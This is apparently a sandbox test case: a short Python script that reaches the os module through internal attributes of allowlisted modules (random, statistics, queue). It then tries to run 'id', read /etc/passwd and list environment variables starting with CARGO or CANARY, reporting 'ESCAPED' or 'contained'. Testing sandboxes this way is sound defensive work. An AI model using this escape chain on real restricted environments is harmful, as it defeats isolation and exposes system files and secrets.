# /// case
# technique = "import-tricks"
# analysis = ["dynamic-attribute", "module-leak"]
# without_analysis = "contained"
# reference = "CVE-2025-5120"
# ///
# Modules that a list allows hold modules that it does not.
import queue, random, statistics
found = None
for start, path in ((random, "_os"), (statistics, "random._os"), (queue, "threading._os")):
    value = start
    for name in path.split("."):
        value = getattr(value, name, None)
    found = found or value
if found is None:
    found = statistics.sys.modules["os"]

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
